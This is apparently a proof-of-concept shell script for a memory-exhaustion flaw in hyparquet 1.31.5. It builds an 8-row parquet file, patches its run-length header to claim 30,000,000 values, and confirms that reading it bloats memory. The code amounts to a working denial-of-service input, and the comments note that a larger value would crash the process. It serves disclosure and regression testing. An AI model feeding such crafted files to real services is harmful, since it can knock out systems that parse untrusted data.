#!/usr/bin/env bash
# hyparquet 1.31.5: a parquet file of a few hundred bytes that says it has 8 rows fills any amount of memory.
#
# A good guess: an array is made of as many values as the page has, so a run of equal values cannot write past its end.
# The reader of runs (RLE) trusts the length that stands in front of a run: it assigns output[seen + i] for all of them,
# and the array, a plain one, grows with it. A run says its length in five bytes. Neither num_values of the page nor
# num_rows of the file, both small here, hold it. Whoever reads files of others has to walk through the runs first.
#
# Seen: a file of 8 rows whose one run was changed to 30,000,000: no error, 8 rows, and more than 150 MB of heap while
# reading (2,147,483,647 would end the process).
#
# Runs the pinned packages alone. Fails if the behaviour changes.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
npm init -y >/dev/null
npm install --no-audit --no-fund --ignore-scripts --silent hyparquet@1.31.5 hyparquet-writer@0.17.0 >/dev/null
cat >run.mjs <<'JS'
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { parquetWriteBuffer } from 'hyparquet-writer';
// eight rows; that none of the first seven is null is one run: two bytes, 0x0e (7 times) and 0x01
const data = [...Array(7).fill(7), null];
const columnData = [{ name: 'x', type: 'INT32', nullable: true, data }];
const bytes = new Uint8Array(parquetWriteBuffer({ codec: 'UNCOMPRESSED', columnData }));
const metadata = parquetMetadata(bytes.slice().buffer);
const { data_page_offset } = metadata.row_groups[0].columns[0].meta_data;
const at = bytes.findIndex((x, i) => i > Number(data_page_offset) && x === 0x0e && bytes[i + 1] === 0x01);
console.log(`${bytes.length} bytes, ${metadata.num_rows} rows; the run at ${at}`);
// the length of a run is a number of 7 bits a byte, doubled: this one takes the place of the bytes behind it
const length = 30_000_000 * 2;
const run = [0, 7, 14, 21].map((shift, i) => ((length >> shift) & 0x7f) | (i < 3 ? 0x80 : 0));
const hostile = bytes.slice();
hostile.set(run, at);
globalThis.gc();
const before = process.memoryUsage().heapUsed;
let outcome;
let most = 0;
const push = Object.getOwnPropertyDescriptor(Array.prototype, 'length');
try {
  const rows = await parquetReadObjects({ file: hostile.buffer });
  outcome = `${rows.length} rows`;
} catch (error) {
  outcome = error.message;
}
most = (process.resourceUsage().maxRSS / 1024) | 0;
const grown = process.memoryUsage().heapUsed - before;
console.log(outcome, '; most memory of the process', most, 'MB; heap grown', (grown / 2 ** 20) | 0, 'MB');
process.exitCode = most > 250 ? 0 : 1;
JS
node --expose-gc run.mjs && echo 'as found' || { echo CHANGED; exit 1; }
